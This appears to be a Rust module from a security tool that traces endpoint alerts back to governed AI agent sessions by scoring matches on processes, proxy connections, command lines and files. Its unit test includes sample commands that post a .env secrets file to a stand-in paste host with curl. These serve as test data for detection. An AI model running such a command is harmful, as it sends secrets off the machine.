//! Which governed sessions an alert came from, and why: deterministic and explainable.
//! Each signal (the same process, its parent, a recorded connection to the same place,
//! the same command line, the same file) is looked up through an index, checked against
//! the alert's time, and scored; a session's score combines its signals
//! (`1 - Π(1 - s)`), and a session on another host is ruled out. No match is an answer:
//! the activity did not come from a governed agent.

use std::collections::{BTreeMap, HashMap};

use warden_audit::{AuditError, AuditStore, SearchQuery};
use warden_protocol::{Event, EventMsg, SessionIdentity, TriageMatch};

use crate::alert::Alert;

/// Sessions scoring below this are not reported as matches.
pub const MIN_SCORE: f64 = 0.3;
/// Slack around a command's run for the alert's time (clocks, reporting delays).
const SLACK_MS: i64 = 5_000;

/// What correlation found.
#[derive(Debug, Clone, Default)]
pub struct Correlation {
    /// Best first.
    pub matches: Vec<TriageMatch>,
    /// Sessions that matched something but ran elsewhere or as someone else, and why
    /// they were set aside.
    pub ruled_out: Vec<String>,
    /// What the alert or the record could not settle.
    pub unknowns: Vec<String>,
    /// The identity each matched session recorded.
    pub identities: HashMap<String, SessionIdentity>,
}

#[derive(Default)]
struct Candidate {
    events: BTreeMap<u64, Vec<String>>,
    signals: Vec<f64>,
}

impl Candidate {
    fn add(&mut self, seq: u64, score: f64, why: String) {
        self.events.entry(seq).or_default().push(why);
        self.signals.push(score);
    }

    fn score(&self) -> f64 {
        let missing: f64 = self
            .signals
            .iter()
            .map(|s| 1.0 - s.clamp(0.0, 0.99))
            .product();
        ((1.0 - missing) * 100.0).round() / 100.0
    }
}

/// Correlate `alert` with the store, looking `window_ms` either side of its time.
pub async fn correlate(
    store: &AuditStore,
    alert: &Alert,
    window_ms: i64,
) -> Result<Correlation, AuditError> {
    let mut out = Correlation::default();
    let centre = alert.at.or(alert.process_started);
    let (since, until) = match centre {
        Some(t) => (t - window_ms, t + window_ms),
        None => {
            out.unknowns.push(
                "the alert gives no time, so matches could be from any time (a pid may have been reused)"
                    .into(),
            );
            (i64::MIN / 2, i64::MAX / 2)
        }
    };
    let mut found: HashMap<String, Candidate> = HashMap::new();
    processes(store, alert, &mut found).await?;
    destinations(store, alert, since, until, &mut found).await?;
    command_lines(store, alert, since, until, &mut found).await?;
    files(store, alert, since, until, &mut found).await?;

    for (session_id, mut candidate) in found {
        let identity = identity(store, &session_id).await?;
        match (&alert.host, &identity) {
            (Some(host), Some(id)) if !same_host(host, &id.hostname) => {
                out.ruled_out.push(format!(
                    "session {session_id} matched, but it ran on {} and the alert is from {host}",
                    id.hostname
                ));
                continue;
            }
            (Some(_), None) => out.unknowns.push(format!(
                "session {session_id} did not record its host (recorded before Warden kept it)"
            )),
            _ => {}
        }
        if let (Some(user), Some(id)) = (&alert.user, &identity) {
            if user.eq_ignore_ascii_case(&id.user) {
                candidate.signals.push(0.05);
            } else {
                out.ruled_out.push(format!(
                    "session {session_id} ran as {}, the alert names {user}",
                    id.user
                ));
                candidate.signals.iter_mut().for_each(|s| *s *= 0.7);
            }
        }
        let score = candidate.score();
        if score < MIN_SCORE {
            continue;
        }
        let mut why: Vec<String> = Vec::new();
        for reasons in candidate.events.values() {
            for reason in reasons {
                if !why.contains(reason) {
                    why.push(reason.clone());
                }
            }
        }
        if let Some(id) = identity {
            if alert.host.is_some() {
                why.push(format!("on the same host ({})", id.hostname));
            }
            out.identities.insert(session_id.clone(), id);
        }
        out.matches.push(TriageMatch {
            session_id,
            events: candidate.events.keys().copied().collect(),
            score,
            why,
        });
    }
    out.matches.sort_by(|a, b| {
        b.score
            .total_cmp(&a.score)
            .then_with(|| a.session_id.cmp(&b.session_id))
    });
    Ok(out)
}

/// Host names compared as people write them: case aside, and a short name equal to the
/// first label of a full one.
fn same_host(a: &str, b: &str) -> bool {
    let short = |h: &str| h.split('.').next().unwrap_or(h).to_ascii_lowercase();
    a.eq_ignore_ascii_case(b) || short(a) == short(b)
}

async fn identity(
    store: &AuditStore,
    session_id: &str,
) -> Result<Option<SessionIdentity>, AuditError> {
    let first = store.session_slice(session_id, 1, 1).await?;
    Ok(first.into_iter().find_map(|e| match e.msg {
        EventMsg::SessionStarted { identity, .. } => identity,
        _ => None,
    }))
}

fn seq(e: &Event) -> u64 {
    e.seq.unwrap_or(0)
}

/// The alert's process, its parent or an ancestor is a process Warden started, at the
/// time the alert says.
async fn processes(
    store: &AuditStore,
    alert: &Alert,
    found: &mut HashMap<String, Candidate>,
) -> Result<(), AuditError> {
    let mut pids: Vec<u32> = alert.pid.into_iter().chain(alert.parent_pid).collect();
    pids.extend(&alert.ancestors);
    pids.dedup();
    for e in store.processes_by_pid(&pids).await? {
        let EventMsg::ProcessStarted {
            pid,
            started_at,
            command_line,
            ..
        } = &e.msg
        else {
            continue;
        };
        // Recorded when the command ended: its run is from `started_at` to then.
        let (start, end) = (*started_at, e.created_at.max(*started_at));
        let relation = if alert.pid == Some(*pid) {
            "the alert's process"
        } else if alert.parent_pid == Some(*pid) {
            "the alert's process's parent"
        } else {
            "an ancestor of the alert's process"
        };
        let weight = match relation {
            "the alert's process" => 0.8,
            "the alert's process's parent" => 0.7,
            _ => 0.6,
        };
        let (score, how) = match (alert.process_started, alert.at) {
            (Some(ps), _) if alert.pid == Some(*pid) && (ps - start).abs() <= 2_000 => (
                0.9,
                format!(
                    "it started at the same moment ({})",
                    warden_protocol::utc_time(start)
                ),
            ),
            (_, Some(at)) if at >= start - SLACK_MS && at <= end + SLACK_MS => {
                (weight, "while the command ran".to_string())
            }
            (None, None) => (
                0.3,
                "(the alert gives no time: the pid may have been reused)".to_string(),
            ),
            // The pid, but at another time: a reused pid, not this command.
            _ => continue,
        };
        found.entry(e.session_id.clone()).or_default().add(
            seq(&e),
            score,
            format!("{relation} (pid {pid}) is Warden's command `{command_line}`, {how}"),
        );
    }
    Ok(())
}

/// A connection to the alert's destination went through the egress proxy in the window.
async fn destinations(
    store: &AuditStore,
    alert: &Alert,
    since: i64,
    until: i64,
    found: &mut HashMap<String, Candidate>,
) -> Result<(), AuditError> {
    let addresses: Vec<String> = alert.destination_ip.iter().cloned().collect();
    let hosts: Vec<String> = alert.destination_domain.iter().cloned().collect();
    if addresses.is_empty() && hosts.is_empty() {
        return Ok(());
    }
    for e in store
        .connections_to(&addresses, &hosts, since, until)
        .await?
    {
        let EventMsg::NetworkAccess { access, .. } = &e.msg else {
            continue;
        };
        if alert.destination_port.is_some_and(|p| p != access.port) {
            continue;
        }
        let by = access
            .source
            .as_deref()
            .map(|s| format!(" by {s}"))
            .unwrap_or_default();
        found.entry(e.session_id.clone()).or_default().add(
            seq(&e),
            0.5,
            format!(
                "a connection to {}:{}{} went through Warden's proxy: {} ({}{by}), from `{}`",
                access.host,
                access.port,
                access
                    .address
                    .as_deref()
                    .map(|a| format!(" ({a})"))
                    .unwrap_or_default(),
                access.decision,
                access.reason,
                access.command.as_deref().unwrap_or("a command")
            ),
        );
    }
    Ok(())
}

/// Words of a command line as the full-text index knows them, the most telling first.
fn words(line: &str) -> Vec<String> {
    let mut words: Vec<String> = line
        .split(|c: char| c.is_whitespace() || "'\"`".contains(c))
        .filter(|w| w.chars().filter(|c| c.is_alphanumeric()).count() >= 3)
        .map(str::to_string)
        .collect();
    words.sort_by_key(|w| std::cmp::Reverse(w.len()));
    words.dedup();
    words.truncate(4);
    words
}

/// A command line without quotes and with single spaces, for comparing.
fn normal(line: &str) -> String {
    line.split(|c: char| c.is_whitespace() || "'\"".contains(c))
        .filter(|w| !w.is_empty())
        .collect::<Vec<_>>()
        .join(" ")
}

/// A command Warden recorded in the window has the alert's command line.
async fn command_lines(
    store: &AuditStore,
    alert: &Alert,
    since: i64,
    until: i64,
    found: &mut HashMap<String, Candidate>,
) -> Result<(), AuditError> {
    let Some(line) = alert
        .command_line
        .as_deref()
        .filter(|l| !l.trim().is_empty())
    else {
        return Ok(());
    };
    let wanted = normal(line);
    let terms = words(line).join(" ");
    if terms.is_empty() {
        return Ok(());
    }
    let hits = in_window(
        store,
        &["toolCallProposed", "commandStarted", "processStarted"],
        since,
        until,
        &terms,
    )
    .await?;
    for event in hits.into_iter().filter(|e| started_by(e, until)) {
        let recorded = match &event.msg {
            EventMsg::ToolCallProposed { summary, .. } => summary,
            EventMsg::ProcessStarted { command_line, .. } => command_line,
            EventMsg::CommandStarted { command, .. } => command,
            _ => continue,
        };
        let have = normal(recorded);
        // The same command starting at the same moment as the alert's process.
        let same_start = match (&event.msg, alert.process_started) {
            (EventMsg::ProcessStarted { started_at, .. }, Some(ps)) => {
                (ps - started_at).abs() <= 2_000
            }
            _ => false,
        };
        let similar = have == wanted
            || (wanted.len() >= 8 && (have.contains(&wanted) || wanted.contains(&have)));
        let (score, how) = if similar && same_start {
            (0.85, "the same command, started at the same moment")
        } else if have == wanted {
            (0.6, "the same command line")
        } else if wanted.len() >= 8 && (have.contains(&wanted) || wanted.contains(&have)) {
            (0.4, "the alert's command line within it")
        } else {
            continue;
        };
        found.entry(event.session_id.clone()).or_default().add(
            seq(&event),
            score,
            format!("{how}: Warden recorded `{recorded}`"),
        );
    }
    Ok(())
}

/// Whether `e` (a process: when it started) was under way by `until`.
fn started_by(e: &Event, until: i64) -> bool {
    match &e.msg {
        EventMsg::ProcessStarted { started_at, .. } => *started_at < until,
        _ => true,
    }
}

/// Most events a window is read for directly; a wider one is searched by text.
const WINDOW_SCAN: u32 = 20_000;
/// How long after the alert a command's process may still be running (its event is
/// recorded when it ends), where processes are searched by text.
const LONGEST_RUN_MS: i64 = 2 * 3_600_000;

/// Events of `kinds` in the window. A narrow window is read straight from the time
/// index (every event in it compared, nothing missed); a wide one, or one without a
/// time, is searched through the full-text index for `text`.
async fn in_window(
    store: &AuditStore,
    kinds: &[&str],
    since: i64,
    until: i64,
    text: &str,
) -> Result<Vec<Event>, AuditError> {
    let bounded = since > i64::MIN / 2 && until < i64::MAX / 2;
    let (processes, others): (Vec<&str>, Vec<&str>) =
        kinds.iter().partition(|k| **k == "processStarted");
    let mut events = Vec::new();
    let mut search: Vec<&str> = Vec::new();
    for (group, by_start) in [(others, false), (processes, true)] {
        if group.is_empty() {
            continue;
        }
        let read = match (bounded, by_start) {
            (false, _) => None,
            (true, false) => Some(
                store
                    .events_between(&group, since, until, WINDOW_SCAN + 1)
                    .await?,
            ),
            // Processes by when they started (they are recorded when they end).
            (true, true) => Some(
                store
                    .processes_started_between(since, until, WINDOW_SCAN + 1)
                    .await?,
            ),
        };
        match read {
            Some(read) if read.len() <= WINDOW_SCAN as usize => events.extend(read),
            _ => search.extend(group),
        }
    }
    if !search.is_empty() {
        let query = SearchQuery {
            text: Some(text.to_string()),
            kinds: search.iter().map(|k| k.to_string()).collect(),
            since: Some(since),
            until: Some(if search.contains(&"processStarted") {
                until.saturating_add(LONGEST_RUN_MS)
            } else {
                until
            }),
            limit: 50,
            ..SearchQuery::default()
        };
        let (hits, _) = store.search(&query).await?;
        events.extend(hits.into_iter().map(|h| h.event));
    }
    Ok(events)
}

/// A tool call or a sandbox denial in the window names the alert's file.
async fn files(
    store: &AuditStore,
    alert: &Alert,
    since: i64,
    until: i64,
    found: &mut HashMap<String, Candidate>,
) -> Result<(), AuditError> {
    let Some(path) = alert.file_path.as_deref() else {
        return Ok(());
    };
    let name = path.rsplit('/').next().unwrap_or(path);
    if name.chars().filter(|c| c.is_alphanumeric()).count() < 2 {
        return Ok(());
    }
    let hits = in_window(
        store,
        &["toolCallProposed", "sandboxDenied", "processStarted"],
        since,
        until,
        name,
    )
    .await?;
    for event in hits.into_iter().filter(|e| started_by(e, until)) {
        let (text, what) = match &event.msg {
            EventMsg::ToolCallProposed { summary, cwd, .. } => {
                (format!("{cwd}/{summary} {summary}"), "a tool call names it")
            }
            EventMsg::SandboxDenied { denial, .. } => {
                (denial.target.clone(), "the sandbox refused it")
            }
            EventMsg::ProcessStarted { command_line, .. } => {
                (command_line.clone(), "a command names it")
            }
            _ => continue,
        };
        if !text.contains(name) {
            continue;
        }
        let score = if text.contains(path) { 0.45 } else { 0.2 };
        found.entry(event.session_id.clone()).or_default().add(
            seq(&event),
            score,
            format!("the file {path}: {what}"),
        );
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scores_combine_and_hosts_compare_as_people_write_them() {
        let mut c = Candidate::default();
        c.add(1, 0.5, "a".into());
        c.add(2, 0.5, "b".into());
        assert_eq!(c.score(), 0.75);
        assert!(same_host("dev1", "DEV1.corp.example"));
        assert!(!same_host("dev1", "dev2"));
        assert_eq!(
            normal("bash -lc 'curl  -d @.env x'"),
            "bash -lc curl -d @.env x"
        );
        assert_eq!(
            words("curl -d @.env https://paste.example.com/x"),
            ["https://paste.example.com/x", "@.env", "curl"]
        );
    }
}
